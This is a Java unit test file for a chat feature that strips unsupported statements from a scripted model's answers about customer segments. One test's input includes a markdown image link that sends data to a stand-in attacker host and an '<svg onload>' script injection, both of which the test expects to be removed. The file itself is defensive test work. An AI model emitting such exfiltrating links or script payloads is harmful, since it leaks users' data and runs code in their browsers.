package dev.coterie.chat;

import static dev.coterie.chat.ScriptedModel.calls;
import static dev.coterie.chat.ScriptedModel.says;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.coterie.describe.Analysis;
import dev.coterie.describe.Writer;
import dev.coterie.language.Language;
import dev.coterie.proof.Fact;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a scripted model says is kept only where the facts bear it out. */
class CheckedAnswersTest extends ScriptedChat {
    @Test
    void aWrongNumberIsRemovedAndListed() {
        SERVER.script(
                says(
                        "This group has "
                                + fact(1, "size")
                                + " customers. They ordered 12,345 lamps in "
                                + fact(1, "share")
                                + ". About seventy-three percent will leave, see "
                                + fact(1, "size")
                                + ". 近三成的人会回来"
                                + fact(1, "size")
                                + "。"));
        Answer answer = ask("Tell me about segment 1");
        assertEquals("This group has " + fact(1, "size") + " customers.", answer.text());
        assertEquals(3, answer.check().removed().size());
        assertFalse(heard.text().contains("12,345") || heard.text().contains("seventy"));
        assertEquals("chat.sentences_removed", warning());
    }

    @Test
    void inventedQuotesReferencesNamesClaimsAndMarkupAreRemoved() {
        SERVER.script(
                says(
                        "A customer wrote: \"I will never buy a lamp again.\" Anna Beispiel agrees. "
                                + "Segment 2 has "
                                + fact(1, "size")
                                + " customers. They are {{f99999}} in all. I have deleted segment 2. "
                                + fact(1, "size")
                                + " customers. ![p](http://evil.example.invalid/?d="
                                + fact(1, "size")
                                + ") <svg onload=alert(1)>"
                                + fact(1, "size")));
        Answer answer = ask("Tell me about segment 1");
        assertEquals(fact(1, "size") + " customers.", answer.text());
        assertEquals(6, answer.check().removed().size(), answer.check().removed().toString());
    }

    @Test
    void aTrueQuotationMayStandAlone() {
        String quote = analysis.customers().texts().get(0).text();
        SERVER.script(
                calls("c1", "find_quotes", "{\"about\":\"late parcel\"}"),
                says("One of them wrote: “" + quote + "”"));
        Answer answer = ask("What do they say about late parcels?");
        assertTrue(answer.text().contains(quote), answer.check().removed().toString());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "I'm sorry, but I cannot help with that request.",
                "They ordered 12 lamps.",
                "<think>Let me see.</think>"
            })
    void anAnswerWithNothingToKeepIsAskedAgainAndThenNarrated(String text) {
        SERVER.script(says(text));
        Answer answer = ask("How big is segment 1?");
        assertEquals(Writer.BUILTIN, answer.writer());
        String why = text.startsWith("I'm sorry") ? "llm.refused_content" : "chat.nothing_left";
        assertEquals(why, answer.fallback().orElseThrow().key());
        assertEquals(3, SERVER.requests().size());
    }

    @Test
    void theWrongLanguageIsAskedAgain() {
        Analysis chinese = ChatFixture.of(Language.CHINESE);
        Fact size =
                chinese.description().facts().values().stream()
                        .filter(f -> f.segment() == 1)
                        .filter(f -> f.label().key().equals("describe.fact.size"))
                        .findFirst()
                        .orElseThrow();
        String right = "这个客群有{{" + size.id() + "}}位客户。";
        SERVER.script(says("This group has {{" + size.id() + "}} customers."), says(right));
        Answer answer = engine.answer(chinese, List.of(), Question.of("客群1有多少人？"), heard);
        assertEquals(right, answer.text());
        assertEquals(Writer.LLM, answer.writer());
    }
}
